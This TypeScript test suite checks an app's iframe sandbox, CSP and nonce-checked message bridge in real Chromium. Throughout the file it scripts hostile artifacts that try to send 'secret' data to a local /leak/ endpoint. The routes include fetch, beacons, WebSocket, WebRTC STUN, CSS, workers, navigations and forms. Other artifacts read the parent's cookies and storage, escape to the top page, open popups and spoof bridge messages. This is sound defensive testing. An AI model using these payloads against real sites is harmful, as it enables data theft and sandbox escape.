// Hostile artifacts in real Chromium, embedded exactly as the app embeds them (hostPage:
// the host page's CSP, SANDBOX_FLAGS, buildSrcdoc's CSP and bridge, isBridgeMessage), in
// a page served from a real http origin. That server records every other request that
// reaches it (and a UDP socket on its port every STUN packet), so a test can prove that
// an attack reached nothing: it ran, and no request, packet or popup came of it, and the
// parent's URL, DOM, cookie and storage stay as they were. A control test shows that
// every attack does reach the server when the artifact runs without the policy.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { hostPage } from "./app-check.ts";
import { launchChromium } from "./chromium.ts";
import { SANDBOX_FLAGS, type BridgeMessage } from "./sandbox.ts";
import { standalonePage } from "./standalone.ts";

const pages = new Map<string, string>();
const requests: string[] = [];
let stunPackets = 0;
let popups = 0;

const server = createServer((req, res) => {
  const page = pages.get(req.url ?? "");
  if (page) {
    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Set-Cookie": "secret=parent-cookie; Path=/" });
    res.end(page);
    return;
  }
  requests.push(`${req.method} ${req.url}`);
  res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" });
  res.end("reached");
});
server.on("upgrade", (req, socket) => {
  requests.push(`UPGRADE ${req.url}`);
  socket.destroy();
});
const udp = createSocket("udp4").on("message", () => stunPackets++);

let origin = "";
let browser: Browser;
// One page for the whole file (a new one per test is slow on a busy machine): each test loads a new host page in it.
let page: Page;

// In the top page only: a secret in localStorage, and a record of every message that
// reaches the window or a BroadcastChannel of its origin, accepted or not.
const PARENT_INIT = `if (window === window.top) {
  localStorage.setItem("secret", "parent-storage");
  window.__all = [];
  addEventListener("message", function (e) { window.__all.push(e.data); });
  new BroadcastChannel("unmask").onmessage = function (e) { window.__all.push({ broadcast: e.data }); };
}`;

before(async () => {
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((ok) => udp.bind(port, "127.0.0.1", ok));
  origin = `http://127.0.0.1:${port}`;
  browser = await launchChromium();
  const context = await browser.newContext();
  context.on("page", () => popups++);
  await context.addInitScript(PARENT_INIT);
  page = await context.newPage();
  page.setDefaultTimeout(60_000);
});

after(async () => {
  await browser.close();
  server.close();
  udp.close();
});

/** Where an attack sends its data: `/leak/<name>/`, plus a suffix where it sends several requests. */
const leak = (name: string) => `${origin}/leak/${name}/`;
const path = (url: string) => new URL(url).pathname;
const slug = (name: string) => name.replace(/\W+/g, "-");
const q = JSON.stringify;

/**
 * An artifact that runs `script` (an async function body) when the parent posts "attack",
 * logs what threw as `threw <name>`, then logs `done`. `probe(name, f)` logs `name: <value>`
 * or `name: <error name>`; `nonce()` reads the bridge's nonce out of the document.
 */
function artifact(script: string, markup = ""): string {
  return `<!DOCTYPE html><html><head><title>hostile</title></head><body>${markup}<script>
function probe(name, f) { try { console.log(name + ": " + String(f())); } catch (e) { console.log(name + ": " + e.name); } }
function nonce() { return /var N="([^"]+)"/.exec(document.scripts[0].textContent)[1]; }
addEventListener("message", async function (e) {
  if (e.data !== "attack") return;
  try { ${script} } catch (e) { console.log("threw " + e.name); }
  console.log("done");
});
</script></body></html>`;
}

const escapeAttribute = (s: string) => s.replace(/&/g, "&amp;").replace(/"/g, "&quot;");

/** Load a host page that embeds `html` as the app does, and wait for the bridge. Returns its URL and nonce. */
async function open(html: string): Promise<{ url: string; nonce: string }> {
  const nonce = randomUUID();
  const url = `${origin}/host/${nonce}`;
  pages.set(path(url), hostPage(html, nonce));
  await page.goto(url);
  await page.waitForFunction(() => (window as unknown as { __ready: boolean }).__ready);
  requests.length = 0;
  stunPackets = 0;
  popups = 0;
  return { url, nonce };
}

const bridged = () => page.evaluate(() => (window as unknown as { __bridge: BridgeMessage[] }).__bridge);

/** What the artifact logged through the bridge (only what the parent accepted). */
async function logged(): Promise<string[]> {
  return (await bridged()).flatMap((m) => (m.kind === "console" ? [m.text] : []));
}

/** Every message that reached the parent, accepted or not, as JSON. */
const arrived = () => page.evaluate(() => JSON.stringify((window as unknown as { __all: unknown[] }).__all));

/** The parent page's state that no artifact may change. */
const parentState = () =>
  page.evaluate(() => ({ url: location.href, html: document.documentElement.outerHTML, cookie: document.cookie, storage: localStorage.getItem("secret") }));

/** Start the attack; wait for it to finish and for anything it sent to land. */
async function strike(): Promise<void> {
  await page.evaluate(() => (document.getElementById("app") as HTMLIFrameElement).contentWindow!.postMessage("attack", "*"));
  await page.waitForFunction(() => (window as unknown as { __bridge: BridgeMessage[] }).__bridge.some((m) => m.kind === "console" && m.text === "done"));
  await page.waitForTimeout(500);
}

/**
 * Run `script` in a hostile artifact and prove it reached nothing: no request, STUN packet
 * or popup, and the parent's URL, DOM, cookie and storage unchanged. Returns what the
 * artifact logged.
 */
async function attack(script: string): Promise<string[]> {
  const { url } = await open(artifact(script));
  const before = await parentState();
  assert.deepEqual(before, { url, html: before.html, cookie: "secret=parent-cookie", storage: "parent-storage" });
  await strike();
  assert.deepEqual(requests, [], "requests reached the server");
  assert.equal(stunPackets, 0, "STUN packets reached the server");
  assert.equal(popups, 0, "a popup opened");
  assert.deepEqual(await parentState(), before, "the parent page changed");
  return logged();
}

// Requests out of the frame, each to `/leak/<name>/`; the artifact tries them one after another.
const REQUESTS: Record<string, (u: string) => string> = {
  fetch: (u) => `await fetch(${q(u)}, { method: "POST", body: "secret", mode: "no-cors" });`,
  "fetch to a relative URL": (u) => `await fetch(${q(path(u))});`,
  XMLHttpRequest: (u) => `await new Promise(function (done) { var x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", ${q(u)}); x.send(); });`,
  WebSocket: (u) => `await new Promise(function (done) { var s = new WebSocket(${q(u.replace("http:", "ws:"))}); s.onerror = s.onclose = done; });`,
  EventSource: (u) => `await new Promise(function (done) { var s = new EventSource(${q(u)}); s.onerror = function () { s.close(); done(); }; });`,
  sendBeacon: (u) => `navigator.sendBeacon(${q(u)}, "secret");`,
  "img src": (u) => `await new Promise(function (done) { var i = new Image(); i.onload = i.onerror = done; i.src = ${q(u)}; });`,
  "script src": (u) => `await new Promise(function (done) { var s = document.createElement("script"); s.onload = s.onerror = done; s.src = ${q(u)}; document.body.appendChild(s); });`,
  "dynamic import": (u) => `await import(${q(u)});`,
  "stylesheet link": (u) => `document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="${u}">');`,
  "CSS url(), @import and @font-face": (u) =>
    `document.head.insertAdjacentHTML("beforeend", '<style>@import url(${u}import); @font-face { font-family: f; src: url(${u}font); } body { background: url(${u}bg); font-family: f; }</style>'); document.body.insertAdjacentHTML("beforeend", '<p style="background-image: url(${u}inline)">x</p>');`,
  "link prefetch, preload and modulepreload": (u) =>
    `document.head.insertAdjacentHTML("beforeend", '<link rel="prefetch" href="${u}prefetch"><link rel="preload" as="fetch" href="${u}preload"><link rel="modulepreload" href="${u}module">');`,
  "Worker from a blob": (u) => `new Worker(URL.createObjectURL(new Blob(["fetch(" + ${q(q(u))} + ")"], { type: "text/javascript" })));`,
  "Worker from a data URL": (u) => `new Worker("data:text/javascript," + encodeURIComponent("fetch(" + ${q(q(u))} + ")"));`,
  "nested iframe, object and embed": (u) => `document.body.insertAdjacentHTML("beforeend", '<iframe src="${u}iframe"></iframe><object data="${u}object"></object><embed src="${u}embed">');`,
  "video, audio and poster": (u) => `document.body.insertAdjacentHTML("beforeend", '<video src="${u}video" poster="${u}poster" autoplay></video><audio src="${u}audio" autoplay></audio>');`,
  // No CSP directive governs WebRTC in Chromium; the bridge removes RTCPeerConnection.
  WebRTC: (u) => `var pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${new URL(u).port}" }] });
pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()); await new Promise(function (r) { setTimeout(r, 500); });`,
  // Last: without the policy the post replaces the document, which ends the list.
  "form post": (u) => `document.body.insertAdjacentHTML("beforeend", '<form id="f" method="post" action="${u}"><input name="secret" value="1"></form>'); document.getElementById("f").submit();`,
};

/** One script that tries every request in turn, logging `tried <name>: ok` or the error's name. */
const tryEach = (entries: [string, string][]) =>
  entries.map(([name, code]) => `try { ${code} console.log(${q(`tried ${name}: ok`)}); } catch (e) { console.log(${q(`tried ${name}: `)} + e.name); }`).join("\n");

// Navigating its own frame: the sandbox allows it and the frame's own CSP does not
// govern navigation; the host page's frame-src does. Each ends the frame's script, so
// each gets an artifact of its own.
const NAVIGATIONS: Record<string, (u: string) => string> = {
  "location.href": (u) => `location.href = ${q(u + "?secret=1")};`,
  "a relative URL": (u) => `location.href = ${q(path(u) + "?secret=1")};`,
  "meta refresh": (u) => `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${u}">');`,
  "a link click (with ping)": (u) => `document.body.insertAdjacentHTML("beforeend", '<a id="a" href="${u}" ping="${u}ping">x</a>'); document.getElementById("a").click();`,
  "window.open into _self": (u) => `open(${q(u)}, "_self");`,
  "a data: document that fetches": (u) => `location.href = "data:text/html," + encodeURIComponent("<script>fetch(" + ${q(q(u))} + ")<\\/script>");`,
  "a blob: document that fetches": (u) => `location.href = URL.createObjectURL(new Blob(["<script>fetch(" + ${q(q(u))} + ")<\\/script>"], { type: "text/html" }));`,
};

// What the preload scanner sees: resources written in the artifact's markup itself.
const STATIC_MARKUP = (u: string) =>
  `<link rel="stylesheet" href="${u}css"><link rel="prefetch" href="${u}prefetch"><script src="${u}script"></script>` +
  `<img src="${u}img"><img srcset="${u}srcset 2x"><iframe src="${u}iframe"></iframe><video poster="${u}poster"></video>` +
  `<style>body { background: url(${u}bg); }</style><meta http-equiv="refresh" content="1; url=${u}refresh">`;

test("control: without the policy, every attack below reaches the server", async () => {
  const requestNames = Object.keys(REQUESTS).filter((n) => n !== "WebRTC");
  const frames = [
    artifact(tryEach(Object.entries(REQUESTS).map(([name, send]) => [name, send(leak(`control-${slug(name)}`))]))),
    ...Object.entries(NAVIGATIONS).map(([name, go]) => artifact(go(leak(`control-${slug(name)}`)))),
    artifact("", STATIC_MARKUP(leak("control-static"))),
  ].map((html) => `<iframe sandbox="${SANDBOX_FLAGS}" srcdoc="${escapeAttribute(html)}"></iframe>`);
  pages.set("/control", `<!DOCTYPE html><link rel="icon" href="data:,"><body>${frames.join("")}</body>`);
  requests.length = 0;
  stunPackets = 0;
  const said: string[] = [];
  page.on("console", (m) => said.push(m.text()));
  // Not waiting for "load": the unprotected frames keep loading what their markup asks for.
  await page.goto(`${origin}/control`, { waitUntil: "domcontentloaded" });
  await Promise.all(page.mainFrame().childFrames().map((f) => f.waitForFunction(() => typeof (window as unknown as { probe?: unknown }).probe === "function")));
  await page.evaluate(() => document.querySelectorAll("iframe").forEach((f) => f.contentWindow!.postMessage("attack", "*")));
  const reached = (name: string) => requests.some((r) => r.includes(`/leak/control-${slug(name)}/`));
  const expected = [...requestNames, ...Object.keys(NAVIGATIONS), "static"];
  for (let waited = 0; waited < 20_000 && !(expected.every(reached) && stunPackets > 0); waited += 200) await page.waitForTimeout(200);
  page.removeAllListeners("console");
  assert.deepEqual(expected.filter((n) => !reached(n)), [], `these attacks reached nothing even without the policy; the frames said: ${said.join("; ")}`);
  assert.ok(stunPackets > 0, "WebRTC sent no STUN packet even without the bridge");
});

test("network: fetch, XHR, WebSocket, EventSource, beacon, img, script, import, CSS, prefetch, workers, frames, media, WebRTC and forms reach nothing", async () => {
  const log = await attack(tryEach(Object.entries(REQUESTS).map(([name, send]) => [name, send(leak(slug(name)))])));
  assert.deepEqual(
    log.filter((l) => l.startsWith("tried ")).map((l) => l.slice(6, l.lastIndexOf(":"))),
    Object.keys(REQUESTS),
    "every request was tried",
  );
});

for (const [name, go] of Object.entries(NAVIGATIONS)) {
  test(`network: navigating its own frame by ${name} reaches nothing`, async () => {
    await attack(go(leak(slug(name))));
  });
}

test("network: resources written in the artifact's markup reach nothing (the preload scanner obeys the CSP)", async () => {
  const { url } = await open(artifact("", STATIC_MARKUP(leak("static"))));
  await page.waitForTimeout(1500); // past the meta refresh's 1 s
  assert.deepEqual(requests, []);
  assert.equal(page.url(), url);
});

test("network: in the standalone page (an artifact in a tab of its own) navigating its frame reaches nothing", async () => {
  const url = `${origin}/standalone`;
  pages.set(path(url), standalonePage(`<script>location.href = ${q(leak("standalone") + "?secret=1")}</script>`, "app", randomUUID()));
  requests.length = 0;
  await page.goto(url);
  // The navigation was tried, and blocked: the frame shows Chromium's error page.
  const blocked = () => page.frames().some((f) => f.url().startsWith("chrome-error:"));
  for (let waited = 0; waited < 20_000 && !blocked(); waited += 100) await page.waitForTimeout(100);
  assert.ok(blocked(), page.frames().map((f) => f.url()).join(", "));
  // (The page itself, served here rather than from a blob: URL, asks for a favicon.)
  assert.deepEqual(requests.filter((r) => r.includes("/leak/")), []);
  assert.equal(page.url(), url);
});

test("reads: the parent's DOM, cookie, storage and BroadcastChannel are out of reach", async () => {
  const log = await attack(`
probe("parent DOM", function () { return parent.document.body.innerHTML; });
probe("top title", function () { return top.document.title; });
probe("frameElement", function () { return window.frameElement; });
probe("parent cookie", function () { return parent.document.cookie; });
probe("own cookie", function () { return document.cookie; });
probe("parent localStorage", function () { return parent.localStorage.getItem("secret"); });
probe("own localStorage", function () { return localStorage.getItem("secret"); });
probe("own sessionStorage", function () { return sessionStorage.getItem("secret"); });
probe("indexedDB", function () { return indexedDB.open("x"); });
new BroadcastChannel("unmask").postMessage("secret");`);
  assert.deepEqual(log, [
    "parent DOM: SecurityError",
    "top title: SecurityError",
    "frameElement: null",
    "parent cookie: SecurityError",
    "own cookie: SecurityError",
    "parent localStorage: SecurityError",
    // The bridge's in-memory storage: usable, and empty.
    "own localStorage: null",
    "own sessionStorage: null",
    "indexedDB: SecurityError",
    "done",
  ]);
  assert.ok(!(await arrived()).includes("broadcast"), "a BroadcastChannel message reached the parent's origin");
});

const TOP_NAVIGATIONS: Record<string, (u: string) => string> = {
  "top.location =": (u) => `top.location = ${q(u)};`,
  "top.location.replace": (u) => `top.location.replace(${q(u)});`,
  "parent.location.assign": (u) => `parent.location.assign(${q(u)});`,
  "window.open into _top": (u) => `open(${q(u)}, "_top");`,
  "a link with target=_top": (u) => `document.body.insertAdjacentHTML("beforeend", '<a id="a" href="${u}" target="_top">x</a>'); document.getElementById("a").click();`,
  "a form with target=_top": (u) => `document.body.insertAdjacentHTML("beforeend", '<form id="f" action="${u}" target="_top"></form>'); document.getElementById("f").submit();`,
  // The page loaded before the host page is there to go back to.
  "history.back": () => `history.back(); history.go(-1); await new Promise(function (r) { setTimeout(r, 300); });`,
  "top.history.back": () => `top.history.back();`,
};

test("top navigation: top.location, location.replace/assign, window.open, links and forms to _top, and history.back leave the parent where it is", async () => {
  const log = await attack(tryEach(Object.entries(TOP_NAVIGATIONS).map(([name, go]) => [name, go(leak(`top-${slug(name)}`))])));
  assert.equal(log.filter((l) => l.startsWith("tried ")).length, Object.keys(TOP_NAVIGATIONS).length, log.join("; "));
});

test("popups: window.open and target=_blank links and forms open nothing", async () => {
  const log = await attack(`
probe("open", function () { return open(${q(leak("popup"))}); });
probe("open noopener", function () { return open(${q(leak("popup-noopener"))}, "_blank", "noopener"); });
probe("open about:blank", function () { return open("about:blank", "x"); });
document.body.insertAdjacentHTML("beforeend", '<a id="a" href="${leak("popup-link")}" target="_blank">x</a><form id="f" action="${leak("popup-form")}" target="_blank"></form>');
document.getElementById("a").click();
document.getElementById("f").submit();`);
  assert.deepEqual(log, ["open: null", "open noopener: null", "open about:blank: null", "done"]);
});

test("bridge: the artifact's own messages without the nonce, with a wrong one, or malformed are ignored", async () => {
  const { nonce } = await open(
    artifact(`var N = nonce(); console.log("nonce " + N);
[{ kind: "console", level: "log", text: "spoof: no nonce" },
 { nonce: "wrong", kind: "console", level: "log", text: "spoof: wrong nonce" },
 { nonce: N, kind: "console", level: "log", text: {} },
 { nonce: N, kind: "console", level: "shout", text: "spoof: unknown level" },
 { nonce: N, kind: "error", text: "spoof: line as text", line: "1", column: null },
 { nonce: N, kind: "reset", text: "spoof: unknown kind" },
 "spoof: not an object"].forEach(function (m) { parent.postMessage(m, "*"); });`),
  );
  await strike();
  // The spoofs all reached the parent, and the artifact really knew the nonce; the parent kept none of them.
  const all = await arrived();
  assert.equal(all.match(/spoof: /g)?.length, 6, all);
  assert.ok(all.includes('"text":{}'), all);
  assert.deepEqual(await logged(), [`nonce ${nonce}`, "done"]);
  assert.equal((await bridged()).length, 2);
});

test("bridge: a message with the right nonce from a nested frame, a sibling frame or the parent itself is ignored", async () => {
  const { nonce } = await open(
    artifact(`var f = document.createElement("iframe");
f.srcdoc = "<script>top.postMessage({ nonce: '" + nonce() + "', kind: 'console', level: 'log', text: 'spoof: nested frame' }, '*')<\\/script>";
await new Promise(function (r) { f.onload = r; document.body.appendChild(f); });`),
  );
  await page.evaluate((m) => {
    const sibling = document.createElement("iframe");
    sibling.sandbox.add("allow-scripts");
    sibling.srcdoc = `<script>parent.postMessage(${JSON.stringify({ ...m, text: "spoof: sibling frame" })}, "*")</script>`;
    document.body.appendChild(sibling);
    window.postMessage({ ...m, text: "spoof: parent window" }, "*");
  }, { nonce, kind: "console", level: "log" });
  await strike();
  await page.waitForFunction(() => JSON.stringify((window as unknown as { __all: unknown[] }).__all).includes("spoof: sibling frame"));
  const all = await arrived();
  for (const from of ["nested frame", "sibling frame", "parent window"]) assert.ok(all.includes(`spoof: ${from}`), `the spoof from the ${from} did not arrive`);
  assert.deepEqual(await logged(), ["done"]);
});
